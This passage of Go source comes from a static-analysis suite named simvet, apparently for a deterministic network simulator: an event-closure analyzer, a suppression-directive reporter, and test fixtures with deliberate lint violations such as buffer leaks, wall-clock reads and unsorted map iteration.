//     scheduled by a dead generation (a replaced carrier, a superseded
//     handshake) fires into state it no longer owns.
var EventcaptureAnalyzer = &analysis.Analyzer{
	Name:       "eventcapture",
	Doc:        "flag kernel-event closures that capture loop variables or skip the generation-guard idiom",
	Requires:   []*analysis.Analyzer{inspect.Analyzer},
	ResultType: SuppressionsType,
	Run:        runEventcapture,
}

func runEventcapture(pass *analysis.Pass) (any, error) {
	rep := NewReporter(pass)
	insp := pass.ResultOf[inspect.Analyzer].(*inspector.Inspector)
	insp.WithStack([]ast.Node{(*ast.CallExpr)(nil)}, func(n ast.Node, push bool, stack []ast.Node) bool {
		if !push {
			return true
		}
		call := n.(*ast.CallExpr)
		if !isKernelSchedule(pass, call) {
			return true
		}
		for _, arg := range call.Args {
			fl, ok := arg.(*ast.FuncLit)
			if !ok {
				continue
			}
			checkLoopCapture(pass, rep, fl, stack)
			checkGenerationGuard(pass, rep, fl, stack)
		}
		return true
	})
	return rep.Finish(), nil
}

// isKernelSchedule reports whether call invokes one of the scheduling entry
// points (At, After, Schedule, ScheduleAfter, SchedulePrep) on a value of a
// named type called Kernel. The pooled handle-less variants are covered too:
// a stale closure is just as stale when its Event struct is recycled.
// (ScheduleBatch closures sit inside composite literals rather than call
// arguments and are not yet covered.)
func isKernelSchedule(pass *analysis.Pass, call *ast.CallExpr) bool {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return false
	}
	fn, ok := pass.TypesInfo.Uses[sel.Sel].(*types.Func)
	if !ok {
		return false
	}
	switch fn.Name() {
	case "At", "After", "Schedule", "ScheduleAfter", "SchedulePrep":
	default:
		return false
	}
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	return recvIsKernel(sig)
}

// checkLoopCapture reports uses of enclosing-loop iteration variables inside
// the scheduled closure.
func checkLoopCapture(pass *analysis.Pass, rep *Reporter, fl *ast.FuncLit, stack []ast.Node) {
	loopVars := map[types.Object]bool{}
	for i := len(stack) - 1; i >= 0; i-- {
		switch s := stack[i].(type) {
		case *ast.RangeStmt:
			for _, e := range []ast.Expr{s.Key, s.Value} {
				if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
					if obj := pass.TypesInfo.ObjectOf(id); obj != nil {
						loopVars[obj] = true
					}
				}
			}
		case *ast.ForStmt:
			if init, ok := s.Init.(*ast.AssignStmt); ok && init.Tok == token.DEFINE {
				for _, lhs := range init.Lhs {
					if id, ok := lhs.(*ast.Ident); ok && id.Name != "_" {
						if obj := pass.TypesInfo.ObjectOf(id); obj != nil {
							loopVars[obj] = true
						}
					}
				}
			}
		}
	}
	if len(loopVars) == 0 {
		return
	}
	reported := map[types.Object]bool{}
	ast.Inspect(fl.Body, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj := pass.TypesInfo.Uses[id]
		if obj != nil && loopVars[obj] && !reported[obj] {
			reported[obj] = true
			rep.Reportf(id, "kernel-event closure captures loop variable %q; the event can outlive the iteration — copy it into a local (v := %s) or bind it through a parameter", id.Name, id.Name)
		}
		return true
	})
}

// checkGenerationGuard applies rule 2: inside a generation-managed function,
// a scheduled closure that mutates captured state must compare a generation
// counter before touching anything.
func checkGenerationGuard(pass *analysis.Pass, rep *Reporter, fl *ast.FuncLit, stack []ast.Node) {
	fn := enclosingFunc(stack, fl)
	if fn == nil || !bumpsGeneration(fn) {
		return
	}
	if !mutatesCapturedState(pass, fl) {
		return
	}
	if hasGenerationGuard(fl) {
		return
	}
	rep.Reportf(fl, "closure scheduled by a generation-managed function mutates captured state without a generation guard; snapshot the counter (gen := x.fooGen) and bail when it moved (if gen != x.fooGen { return }) as in vpn.Client")
}

// enclosingFunc returns the body of the innermost function declaration or
// literal on the stack that encloses (and is not) fl.
func enclosingFunc(stack []ast.Node, fl *ast.FuncLit) *ast.BlockStmt {
	for i := len(stack) - 1; i >= 0; i-- {
		switch f := stack[i].(type) {
		case *ast.FuncLit:
			if f != fl {
				return f.Body
			}
		case *ast.FuncDecl:
			return f.Body
		}
	}
	return nil
}

// isGenName reports whether an identifier looks like a generation counter.
func isGenName(name string) bool {
	return strings.HasSuffix(name, "Gen") || strings.HasSuffix(name, "gen") || name == "generation"
}

// leafName extracts the final identifier of an expression: c.carrierGen →
// "carrierGen", gen → "gen".
func leafName(e ast.Expr) string {
	switch v := ast.Unparen(e).(type) {
	case *ast.Ident:
		return v.Name
	case *ast.SelectorExpr:
		return v.Sel.Name
	}
	return ""
}

// bumpsGeneration reports whether body contains an `x…Gen++` statement.
func bumpsGeneration(body *ast.BlockStmt) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if inc, ok := n.(*ast.IncDecStmt); ok && inc.Tok == token.INC && isGenName(leafName(inc.X)) {
			found = true
		}
		return !found
	})
	return found
}

// mutatesCapturedState reports whether the closure assigns through a
// variable declared outside it (c.state = …, c.healing = true, x++ …).
func mutatesCapturedState(pass *analysis.Pass, fl *ast.FuncLit) bool {
	captured := func(e ast.Expr) bool {
		obj := rootObject(pass, e)
		if obj == nil {
			return false
		}
		return obj.Pos() < fl.Pos() || obj.Pos() > fl.End()
	}
	found := false
	ast.Inspect(fl.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.AssignStmt:
			for _, lhs := range n.Lhs {
				if captured(lhs) {
					found = true
				}
			}
		case *ast.IncDecStmt:
			// A generation bump inside the closure is itself mutation.
			if captured(n.X) {
				found = true
			}
		}
		return !found
	})
	return found
}

// hasGenerationGuard reports whether the closure contains an if statement
// comparing generation-looking values with == or !=.
func hasGenerationGuard(fl *ast.FuncLit) bool {
	found := false
	ast.Inspect(fl.Body, func(n ast.Node) bool {
		ifs, ok := n.(*ast.IfStmt)
		if !ok {
			return !found
		}
		ast.Inspect(ifs.Cond, func(c ast.Node) bool {
			if bin, ok := c.(*ast.BinaryExpr); ok && (bin.Op == token.EQL || bin.Op == token.NEQ) {
				if isGenName(leafName(bin.X)) || isGenName(leafName(bin.Y)) {
					found = true
				}
			}
			return !found
		})
		return !found
	})
	return found
}
