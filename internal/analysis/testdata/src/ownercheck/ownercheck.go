// Package ownercheck exercises //simvet:owner directive hygiene, validated by
// the simvetallow analyzer. Expectations are programmatic (see
// TestOwnerValidator): a line comment cannot carry a want comment about
// itself.
package ownercheck

import "repro/internal/pkt"

// wellFormed carries a valid contract and must produce no diagnostic.
//
//simvet:owner transfer valid fixture contract
func wellFormed(pb *pkt.Buf) {
	pb.Release()
}

// badMode names a mode that does not exist.
//
//simvet:owner steal this mode is not in the vocabulary
func badMode(pb *pkt.Buf) {
	pb.Release()
}

// noReason declares a mode but no justification.
//
//simvet:owner borrow
func noReason(pb *pkt.Buf) {
	_ = pb.Len()
}

// bare is a directive with neither mode nor reason.
//
//simvet:owner
func bare(pb *pkt.Buf) {
	_ = pb.Len()
}

// stale declares a contract for a function with no *pkt.Buf parameter.
//
//simvet:owner transfer nothing here takes a buffer
func stale(n int) int {
	return n + 1
}

//simvet:owner transfer this directive floats outside any function doc comment

var unattachedAnchor = 0
