// Fixture for the eventcapture analyzer: kernel-event closures must not
// capture loop variables, and closures scheduled by generation-managed code
// must carry the generation-guard idiom.
package eventcapture

type Kernel struct{}

func (k *Kernel) After(d int, fn func()) {}
func (k *Kernel) At(t int, fn func())    {}

type sta struct {
	name  string
	awake bool
}

func badRangeCapture(k *Kernel, stas []*sta) {
	for _, s := range stas {
		k.After(10, func() {
			_ = s.name // want `kernel-event closure captures loop variable "s"`
		})
	}
}

func badForCapture(k *Kernel, stas []*sta) {
	for i := 0; i < len(stas); i++ {
		k.At(10, func() {
			stas[i].awake = true // want `kernel-event closure captures loop variable "i"`
		})
	}
}

func goodLocalCopy(k *Kernel, stas []*sta) {
	for _, s := range stas {
		s := s // pinned to this iteration, visible at the schedule site
		k.After(10, func() { _ = s.name })
	}
}

type client struct {
	hsGen int
	state int
}

func (c *client) badNoGuard(k *Kernel) {
	c.hsGen++
	k.After(5, func() { // want `mutates captured state without a generation guard`
		c.state = 2
	})
}

func (c *client) goodGuarded(k *Kernel) {
	c.hsGen++
	gen := c.hsGen
	k.After(5, func() {
		if gen != c.hsGen {
			return // a later generation owns this state now
		}
		c.state = 2
	})
}

func (c *client) goodReadOnly(k *Kernel) {
	c.hsGen++
	k.After(5, func() { _ = c.state })
}

func (c *client) goodNoGenerations(k *Kernel) {
	// No generation counter in play: plain state mutation is fine.
	k.After(5, func() { c.state = 3 })
}
