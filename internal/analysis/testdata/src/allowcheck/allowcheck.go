// Fixture for the simvetallow directive validator. Expectations live in
// analysis_test.go rather than // want comments: a line comment cannot carry
// a second comment, and appending want text to a directive would become part
// of its reason.
package allowcheck

import "time"

func f() time.Duration {
	//simvet:allow walltime
	//simvet:allow nosuchanalyzer because I said so
	//simvet:allow
	//simvet:allow maporder this one is fine and validates cleanly
	return time.Second
}
