// Package bufuseafter is the deliberate-violation fixture for the
// bufuseafter analyzer: uses of a buffer after Release or after an
// ownership-transferring call, plus the Retain patterns that make the same
// shapes legal.
package bufuseafter

import "repro/internal/pkt"

// consume takes ownership of its buffer.
//
//simvet:owner transfer fixture sink: releases pb
func consume(pb *pkt.Buf) {
	if pb != nil {
		pb.Release()
	}
}

func useAfterRelease(p *pkt.Pool) {
	pb := p.Get()
	pb.Release()
	_ = pb.Len() // want `uses buffer "pb" after Release`
}

func doubleRelease(p *pkt.Pool) {
	pb := p.Get()
	pb.Release()
	pb.Release() // want `releases buffer "pb" again: it already died via Release`
}

func useAfterTransfer(p *pkt.Pool) {
	pb := p.Get()
	consume(pb)
	_ = pb.Bytes() // want `uses buffer "pb" after the handoff to consume`
}

func handoffAfterRelease(p *pkt.Pool) {
	pb := p.Get()
	pb.Release()
	consume(pb) // want `hands off buffer "pb" after Release`
}

func useAfterChannelSend(p *pkt.Pool, ch chan *pkt.Buf) {
	pb := p.Get()
	ch <- pb
	_ = pb.Len() // want `uses buffer "pb" after the channel send`
}

func useAfterMergedDeath(p *pkt.Pool, c bool) {
	pb := p.Get()
	if c {
		pb.Release()
	} else {
		consume(pb)
	}
	_ = pb.Len() // want `uses buffer "pb" after it was released or handed off on every path here`
}

func goodRetainBeforeHandoff(p *pkt.Pool) {
	pb := p.Get()
	consume(pb.Retain())
	_ = pb.Len()
	pb.Release()
}

func goodNilCompareAfterRelease(p *pkt.Pool) bool {
	pb := p.Get()
	pb.Release()
	return pb != nil // comparing a dead pointer against nil is not a use
}

func goodReacquire(p *pkt.Pool) {
	pb := p.Get()
	pb.Release()
	pb = p.Get()
	_ = pb.Len()
	pb.Release()
}

func goodBranchedUse(p *pkt.Pool, c bool) {
	pb := p.Get()
	if c {
		_ = pb.Len()
	}
	pb.Release()
}
