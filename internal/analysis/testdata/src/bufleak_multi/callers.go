package bufleak_multi

import "repro/internal/pkt"

func goodCrossFileTransfer(p *pkt.Pool) {
	swallow(p.Get())
}

func goodCrossFileBorrow(p *pkt.Pool) {
	pb := p.Get()
	_ = peek(pb)
	pb.Release()
}

func badCrossFileBorrow(p *pkt.Pool) {
	_ = peek(p.Get()) // want `passes a freshly acquired \*pkt\.Buf to peek, which only borrows it`
}

func badCrossFileLeak(p *pkt.Pool, c bool) error {
	pb := p.Get()
	if c {
		return nil // want `buffer "pb" acquired at .* is still owned at this return`
	}
	swallow(pb)
	return nil
}
