// Package bufleak_multi is the multi-file fixture: ownership contracts are
// declared in this file and consumed in callers.go, so the test proves the
// directive scan and the facts table work across files of one package (the
// single-package analogue of the driver's cross-package pre-pass).
package bufleak_multi

import "repro/internal/pkt"

// swallow takes ownership.
//
//simvet:owner transfer fixture sink declared in a different file than its callers
func swallow(pb *pkt.Buf) {
	pb.Release()
}

// peek only borrows.
//
//simvet:owner borrow fixture reader declared in a different file than its callers
func peek(pb *pkt.Buf) int {
	return pb.Len()
}
