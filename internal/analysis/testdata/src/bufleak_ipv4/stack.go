// Package bufleak_ipv4 is the seeded-bug fixture: a condensed replica of the
// internal/ipv4 Stack.SendBuf shape with its error-path Release deliberately
// deleted. The acceptance check is that bufleak reports the injected leak —
// proving the analyzer would have caught the bug class the zero-copy PR had
// to fix by hand.
package bufleak_ipv4

import (
	"errors"

	"repro/internal/pkt"
)

var errNoRoute = errors.New("no route")

const headerLen = 20

type iface struct {
	name string
	addr uint32
	up   bool
}

type stack struct {
	ifaces []*iface
	ttl    int
}

// route is the downstream sink, contract-annotated like the real one.
//
//simvet:owner transfer owns pb and settles it on every path
func (s *stack) route(dst uint32, pb *pkt.Buf) error {
	for _, ifc := range s.ifaces {
		if ifc.up && ifc.addr == dst {
			pb.Release()
			return nil
		}
	}
	pb.Release()
	return errNoRoute
}

// sendBuf is the ipv4.Stack.SendBuf shape: header pushed into the owned
// buffer's headroom, validation gates before the route handoff. The TTL
// validation path returns without releasing — the seeded bug.
//
//simvet:owner transfer owns pb: must release or hand it to route on every path
func (s *stack) sendBuf(dst uint32, pb *pkt.Buf) error {
	if s.ttl <= 0 {
		return errNoRoute // want `buffer "pb" acquired at .* is still owned at this return`
	}
	hdr := pb.Push(headerLen)
	hdr[0] = 0x45
	if len(s.ifaces) == 0 {
		pb.Release()
		return errNoRoute
	}
	return s.route(dst, pb)
}
