// Fixture for //simvet:allow handling under the walltime analyzer:
// a justified directive suppresses, a reasonless one is rejected (the
// diagnostic stays), and a directive that suppresses nothing goes stale.
package walltime_allow

import "time"

func suppressed() {
	_ = time.Now() //simvet:allow walltime fixture demonstrates a justified suppression
}

func suppressedLineAbove() {
	//simvet:allow walltime directive on the line above also counts
	time.Sleep(time.Second)
}

func rejectedWithoutReason() {
	//simvet:allow walltime
	_ = time.Now() // want `time\.Now reads the host wall clock`
}

func stale() {
	//simvet:allow walltime this suppresses nothing anymore // want `stale //simvet:allow walltime directive`
	_ = time.Duration(0)
}
