// Fixture for the maporder analyzer: order-sensitive work inside a map range
// is a violation unless it is the collect-then-sort idiom.
package maporder

import (
	"fmt"
	"sort"
)

type Kernel struct{}

func (k *Kernel) MixDigest(kind string, data []byte) {}
func (k *Kernel) After(d int, fn func())             {}

func badCollectNoSort(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k) // want `collects from map m into "keys" without sorting it afterwards`
	}
	return keys
}

func badCollectValues(m map[string][]byte) [][]byte {
	out := make([][]byte, 0, len(m))
	for _, b := range m {
		out = append(out, b) // want `collects from map m into "out" without sorting it afterwards`
	}
	return out
}

func badPrint(m map[string]int) {
	for k, v := range m { // want `range over map m writes output via fmt\.Printf`
		fmt.Printf("%s=%d\n", k, v)
	}
}

func badDigest(k *Kernel, m map[string][]byte) {
	for name, b := range m { // want `range over map m mixes the trace digest`
		k.MixDigest(name, b)
	}
}

func badSchedule(k *Kernel, m map[string]int) {
	for _, d := range m { // want `range over map m schedules kernel events`
		d := d
		k.After(d, func() {})
	}
}

func badReturn(m map[string]error) error {
	for name, err := range m { // want `range over map m returns a value chosen by the iteration`
		if err != nil {
			return fmt.Errorf("%s failed: %w", name, err)
		}
	}
	return nil
}

func goodCollectThenSort(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

func goodNestedCollect(ms map[string]map[string]int) []string {
	var keys []string
	for _, inner := range ms {
		for k := range inner {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	return keys
}

func goodAggregate(m map[string]int) int {
	total := 0
	for _, v := range m {
		total += v
	}
	return total
}

func goodBuildMap(m map[string]int) map[int]string {
	inv := make(map[int]string, len(m))
	for k, v := range m {
		inv[v] = k
	}
	return inv
}

func goodConstantEarlyExit(m map[string]bool) bool {
	for _, v := range m {
		if v {
			return true // constant result: order-independent
		}
	}
	return false
}
