// Fixture for the globalrand analyzer: the process-global math/rand source
// and any crypto/rand are violations; an explicitly seeded *rand.Rand is not.
package globalrand

import (
	crand "crypto/rand" // want `crypto/rand reads host entropy and can never replay`
	"math/rand"
)

func bad() {
	_ = rand.Intn(6)                    // want `math/rand\.Intn draws from the shared process-global source`
	_ = rand.Float64()                  // want `math/rand\.Float64 draws from the shared process-global source`
	rand.Shuffle(3, func(i, j int) {})  // want `math/rand\.Shuffle draws from the shared process-global source`
	_, _ = crand.Read(make([]byte, 8))  // the import line above carries the diagnostic
}

func good() int {
	r := rand.New(rand.NewSource(42)) // explicit caller-seeded generator
	return r.Intn(6)                  // method on *rand.Rand, not the global source
}
