// Package eventpool is the deliberate-violation fixture for the eventpool
// analyzer: discarded At/After handles (which must use the pooled
// Schedule/ScheduleAfter) and callbacks canceling their own fired handle.
package eventpool

import "repro/internal/sim"

func discardsAt(k *sim.Kernel) {
	k.At(5, func() {}) // want `discards the \*sim\.Event handle returned by At: .* use the pooled Schedule `
}

func discardsAfter(k *sim.Kernel) {
	k.After(5, func() {}) // want `discards the \*sim\.Event handle returned by After: .* use the pooled ScheduleAfter`
}

func discardsBlank(k *sim.Kernel) {
	_ = k.At(5, func() {}) // want `discards the \*sim\.Event handle returned by At`
}

type conn struct {
	k     *sim.Kernel
	timer *sim.Event
}

func selfCancelLocal(k *sim.Kernel) *sim.Event {
	var ev *sim.Event
	ev = k.After(5, func() {
		ev.Cancel() // want `callback cancels its own handle ev: the event has already fired`
	})
	return ev
}

func (c *conn) selfCancelField() {
	c.timer = c.k.After(5, func() {
		c.timer.Cancel() // want `callback cancels its own handle c\.timer: the event has already fired`
	})
}

func goodRetainedHandle(k *sim.Kernel) *sim.Event {
	ev := k.At(5, func() {})
	return ev
}

func goodCancelElsewhere(c *conn) {
	if c.timer != nil {
		c.timer.Cancel()
	}
	c.timer = c.k.After(5, func() {})
}

func (c *conn) goodRenewal() {
	c.timer = c.k.After(5, func() {
		// Reschedule through the same variable, then cancel the new handle on
		// some condition: the renewal exempts the pattern.
		c.timer = c.k.After(5, func() {})
		c.timer.Cancel()
	})
}

func goodPooled(k *sim.Kernel) {
	k.Schedule(5, func() {})
	k.ScheduleAfter(5, func() {})
}

func goodSuppressedDiscard(k *sim.Kernel) {
	//simvet:allow eventpool fixture demonstrates a justified suppression
	k.At(5, func() {})
}
