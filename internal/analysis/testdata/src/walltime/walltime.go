// Fixture for the walltime analyzer: wall-clock reads are violations,
// time.Duration/time.Time value arithmetic is not.
package walltime

import "time"

func bad() {
	_ = time.Now()              // want `time\.Now reads the host wall clock`
	time.Sleep(time.Second)     // want `time\.Sleep reads the host wall clock`
	_ = time.Since(time.Time{}) // want `time\.Since reads the host wall clock`
	<-time.After(time.Second)   // want `time\.After reads the host wall clock`
	_ = time.Tick(time.Second)  // want `time\.Tick reads the host wall clock`
	t := time.NewTimer(0)       // want `time\.NewTimer reads the host wall clock`
	_ = t
}

func good() {
	const beacon = 100 * time.Millisecond // durations are pure values
	var d time.Duration = 5 * time.Second
	_ = d.Seconds()
	var at time.Time
	_ = at.Add(d) // methods on time values never touch the clock
	_ = time.Duration(42).String()
}
