// Package bufleak is the deliberate-violation fixture for the bufleak
// analyzer: every want line is a leak the CFG dataflow must catch, and every
// good* function is a sanctioned ownership pattern that must stay clean.
package bufleak

import (
	"errors"

	"repro/internal/pkt"
)

var errBad = errors.New("bad")

// consume takes ownership of its buffer.
//
//simvet:owner transfer fixture sink: releases pb
func consume(pb *pkt.Buf) {
	if pb != nil {
		pb.Release()
	}
}

// inspect only borrows its buffer.
//
//simvet:owner borrow fixture reader: caller keeps ownership
func inspect(pb *pkt.Buf) int {
	return pb.Len()
}

// undeclared has a *pkt.Buf parameter but no ownership directive.
func undeclared(pb *pkt.Buf) {}

func leakAtReturn(p *pkt.Pool) {
	pb := p.Get()
	_ = pb.Len()
	return // want `buffer "pb" acquired at .* is still owned at this return`
}

func leakOnErrorPath(p *pkt.Pool, fail bool) error {
	pb := p.Get()
	if fail {
		return errBad // want `buffer "pb" acquired at .* is still owned at this return`
	}
	pb.Release()
	return nil
}

func conditionalRelease(p *pkt.Pool, c bool) {
	pb := p.Get()
	if c {
		pb.Release()
	}
	_ = c // want `buffer "pb" is released or handed off on some paths into this point but still owned on others`
}

func discardsResult(p *pkt.Pool) {
	p.Get() // want `discards an owned \*pkt\.Buf: the result of Get is never bound`
}

func discardsBlank(p *pkt.Pool) {
	_ = p.Get() // want `discards an owned \*pkt\.Buf: the result of Get bound to _`
}

func discardsRetain(p *pkt.Pool) {
	pb := p.Get()
	pb.Retain() // want `discards an owned \*pkt\.Buf: the result of Retain is never bound`
	pb.Release()
}

func overwritesOwned(p *pkt.Pool) {
	pb := p.Get()
	pb = p.Get() // want `overwrites buffer "pb" while it is still owned`
	pb.Release()
}

func ownedToBorrower(p *pkt.Pool) {
	inspect(p.Get()) // want `passes a freshly acquired \*pkt\.Buf to inspect, which only borrows it`
}

func ownedToUndeclared(p *pkt.Pool) {
	pb := p.Get()
	undeclared(pb) // want `passes buffer "pb" to undeclared, whose ownership contract is undeclared`
}

// releasesBorrowed violates its own borrow contract.
//
//simvet:owner borrow fixture contract violation subject
func releasesBorrowed(pb *pkt.Buf) {
	pb.Release() // want `releases borrowed buffer "pb"`
}

// givesAwayBorrowed transfers a buffer it does not own.
//
//simvet:owner borrow fixture contract violation subject
func givesAwayBorrowed(pb *pkt.Buf) {
	consume(pb) // want `gives away borrowed buffer "pb" via the handoff to consume`
}

// leakyOwner declares transfer but forgets its obligation on one path.
//
//simvet:owner transfer fixture owner that leaks on the error path
func leakyOwner(pb *pkt.Buf, fail bool) error {
	if fail {
		return errBad // want `buffer "pb" acquired at .* is still owned at this return`
	}
	pb.Release()
	return nil
}

func goodAcquireRelease(p *pkt.Pool) {
	pb := p.Get()
	pb.Extend(4)
	pb.Release()
}

func goodTransfer(p *pkt.Pool) {
	consume(p.Get())
}

func goodNilGuard(p *pkt.Pool, c bool) {
	var pb *pkt.Buf
	if c {
		pb = p.Get()
	}
	if pb != nil {
		pb.Release()
	}
}

func goodDeferRelease(p *pkt.Pool) {
	pb := p.Get()
	defer pb.Release()
	_ = pb.Len()
}

type holder struct{ pb *pkt.Buf }

func goodStructStore(p *pkt.Pool, h *holder) {
	h.pb = p.Get()
}

func goodCompositeStore(p *pkt.Pool) holder {
	pb := p.Get()
	return holder{pb: pb}
}

func goodReturn(p *pkt.Pool) *pkt.Buf {
	pb := p.Get()
	pb.Extend(8)
	return pb
}

func goodChannelSend(p *pkt.Pool, ch chan *pkt.Buf) {
	pb := p.Get()
	ch <- pb
}

func goodRetainShare(p *pkt.Pool) {
	pb := p.Get()
	consume(pb.Retain())
	pb.Release()
}

func goodReleaseBothPaths(p *pkt.Pool, c bool) {
	pb := p.Get()
	if c {
		pb.Release()
		return
	}
	pb.Release()
}

func goodWrap(b []byte) {
	pb := pkt.Wrap(b)
	pb.Release()
}

// goodSuppressed demonstrates the justified escape hatch.
func goodSuppressed(p *pkt.Pool) {
	pb := p.Get()
	_ = pb
	//simvet:allow bufleak fixture demonstrates a justified suppression
	return
}
