// Fixture for the tiebreak analyzer: sorting by a single float key is a
// violation; a secondary key or a non-float key is fine.
package tiebreak

import (
	"cmp"
	"slices"
	"sort"
)

type ap struct {
	rssi float64
	loss float32
	id   int
}

func badSingleFloat(aps []ap) {
	sort.Slice(aps, func(i, j int) bool { // want `comparator orders by a single float key`
		return aps[i].rssi > aps[j].rssi
	})
}

func badSingleFloat32Stable(aps []ap) {
	sort.SliceStable(aps, func(i, j int) bool { // want `comparator orders by a single float key`
		return aps[i].loss < aps[j].loss
	})
}

func badSortFuncCompare(aps []ap) {
	slices.SortFunc(aps, func(a, b ap) int { // want `comparator orders by a single float key`
		return cmp.Compare(a.rssi, b.rssi)
	})
}

func goodSecondaryKey(aps []ap) {
	sort.Slice(aps, func(i, j int) bool {
		if aps[i].rssi != aps[j].rssi {
			return aps[i].rssi > aps[j].rssi
		}
		return aps[i].id < aps[j].id
	})
}

func goodIntKey(xs []int) {
	sort.Slice(xs, func(i, j int) bool { return xs[i] < xs[j] })
}

func goodStringKey(names []string) {
	sort.Slice(names, func(i, j int) bool { return names[i] < names[j] })
}
