package analysis

import (
	"fmt"
	"go/token"
	"reflect"
	"strings"

	"golang.org/x/tools/go/analysis"
)

// allowPrefix is the suppression directive marker. The full grammar is
//
//	//simvet:allow <analyzer> <reason…>
//
// attached either to the offending line or to the line immediately above it.
// The reason is mandatory; reasonless directives are rejected (they suppress
// nothing) and reported by AllowAnalyzer.
const allowPrefix = "//simvet:allow"

// directive is one parsed //simvet:allow comment.
type directive struct {
	pos      token.Pos
	file     string
	line     int
	analyzer string
	reason   string
}

// parseDirectives scans every comment in the pass for //simvet:allow
// directives. Malformed directives (no analyzer name, no reason, unknown
// analyzer) are still returned; validation policy belongs to the callers.
func parseDirectives(pass *analysis.Pass) []directive {
	allows, _ := scanDirectives(pass.Fset, pass.Files, pass.TypesInfo)
	return allows
}

// Suppression records one diagnostic silenced by a //simvet:allow directive.
// Drivers surface these as notes so suppressions are never invisible.
type Suppression struct {
	Pos      token.Position // location of the suppressed diagnostic
	Analyzer string
	Reason   string
	Message  string // the diagnostic text that was silenced
}

// Suppressions is the ResultType of every simvet rule analyzer.
type Suppressions struct {
	List []Suppression
}

// SuppressionsType is shared by all rule analyzers so drivers can collect
// suppression notes uniformly.
var SuppressionsType = reflect.TypeOf((*Suppressions)(nil))

type fileLine struct {
	file string
	line int
}

// Reporter filters an analyzer's diagnostics through the //simvet:allow
// directives of the package under analysis. Only well-formed directives
// (known analyzer + non-empty reason) suppress; everything else passes
// through untouched and is flagged separately by AllowAnalyzer. Rule
// analyzers outside this package (internal/analysis/bufcheck) share it so
// every simvet rule gets identical suppression semantics.
type Reporter struct {
	pass *analysis.Pass
	sup  *Suppressions
	// eligible maps a (file, line) a diagnostic may land on to the directive
	// covering it: a directive covers its own line and the line below it.
	eligible map[fileLine]*directiveUse
	all      []*directiveUse
}

type directiveUse struct {
	d    directive
	used bool
}

// NewReporter collects this analyzer's well-formed directives from the pass.
func NewReporter(pass *analysis.Pass) *Reporter {
	r := &Reporter{pass: pass, sup: &Suppressions{}, eligible: make(map[fileLine]*directiveUse)}
	for _, d := range parseDirectives(pass) {
		if d.analyzer != pass.Analyzer.Name || d.reason == "" {
			continue
		}
		du := &directiveUse{d: d}
		r.all = append(r.all, du)
		r.eligible[fileLine{d.file, d.line}] = du
		r.eligible[fileLine{d.file, d.line + 1}] = du
	}
	return r
}

// Reportf emits a diagnostic at rng unless a //simvet:allow directive for
// this analyzer covers the line, in which case the diagnostic is recorded as
// a Suppression instead.
func (r *Reporter) Reportf(rng analysis.Range, format string, args ...any) {
	pos := r.pass.Fset.Position(rng.Pos())
	if du, ok := r.eligible[fileLine{pos.Filename, pos.Line}]; ok {
		du.used = true
		msg := fmt.Sprintf(format, args...)
		r.sup.List = append(r.sup.List, Suppression{
			Pos:      pos,
			Analyzer: r.pass.Analyzer.Name,
			Reason:   du.d.reason,
			Message:  msg,
		})
		return
	}
	r.pass.ReportRangef(rng, format, args...)
}

// Finish flags stale directives — well-formed allows that silenced nothing —
// and returns the suppression record for the driver. Stale allows are bugs:
// they advertise a violation that no longer exists and would hide a future
// regression on that line.
func (r *Reporter) Finish() *Suppressions {
	for _, du := range r.all {
		if !du.used {
			r.pass.Reportf(du.d.pos, "stale //simvet:allow %s directive: it suppresses no diagnostic; delete it", du.d.analyzer)
		}
	}
	return r.sup
}

// AllowAnalyzer validates simvet directive hygiene package-wide, covering
// both directive vocabularies in one comment-scanning pass:
//
//   - //simvet:allow must name a known analyzer and carry a reason;
//   - //simvet:owner must use a known mode (transfer|borrow), carry a reason,
//     sit in the doc comment of a function declaration, and that function
//     must actually have a *pkt.Buf parameter — anything else is stale or
//     malformed and would advertise a contract nobody checks.
//
// It emits no suppressions itself and cannot be suppressed.
var AllowAnalyzer = &analysis.Analyzer{
	Name: "simvetallow",
	Doc:  "check that every //simvet:allow and //simvet:owner directive is well-formed, justified, and not stale",
	Run: func(pass *analysis.Pass) (any, error) {
		known := ruleNames()
		allows, owners := scanDirectives(pass.Fset, pass.Files, pass.TypesInfo)
		for _, d := range allows {
			switch {
			case d.analyzer == "":
				pass.Reportf(d.pos, "//simvet:allow needs an analyzer and a reason: //simvet:allow <analyzer> <reason>")
			case !known[d.analyzer]:
				pass.Reportf(d.pos, "//simvet:allow names unknown analyzer %q (known: %s)", d.analyzer, strings.Join(knownNames(known), ", "))
			case d.reason == "":
				pass.Reportf(d.pos, "//simvet:allow %s is missing its mandatory reason; the violation stays reported until one is given", d.analyzer)
			}
		}
		for _, od := range owners {
			switch {
			case od.ModeStr == "":
				pass.Reportf(od.Pos, "//simvet:owner needs a mode and a reason: //simvet:owner transfer|borrow <reason>")
			case od.Mode == OwnerUnknown:
				pass.Reportf(od.Pos, "//simvet:owner names unknown mode %q (known: transfer, borrow)", od.ModeStr)
			case od.Reason == "":
				pass.Reportf(od.Pos, "//simvet:owner %s is missing its mandatory reason; the contract is ignored until one is given", od.ModeStr)
			case od.Decl == nil:
				pass.Reportf(od.Pos, "//simvet:owner must sit in the doc comment of the function whose contract it declares")
			case od.Fn != nil && !HasBufParam(od.Fn):
				pass.Reportf(od.Pos, "stale //simvet:owner %s directive: %s has no *pkt.Buf parameter; delete it", od.ModeStr, od.Decl.Name.Name)
			}
		}
		return nil, nil
	},
}

func knownNames(m map[string]bool) []string {
	names := make([]string, 0, len(m))
	for _, a := range Rules() {
		if m[a.Name] {
			names = append(names, a.Name)
		}
	}
	return names
}
