package analysis_test

import (
	"strings"
	"testing"

	simvet "repro/internal/analysis"
	"repro/internal/analysis/vettest"
)

// The positive/negative behavior of each rule analyzer lives in its fixture
// package under testdata/src: every `// want` line is a deliberate violation
// that must be reported, and every good* function is a pattern that must
// stay clean. Removing an analyzer's violation fix from the fixture (or the
// analyzer from the suite) makes the corresponding test fail, which is the
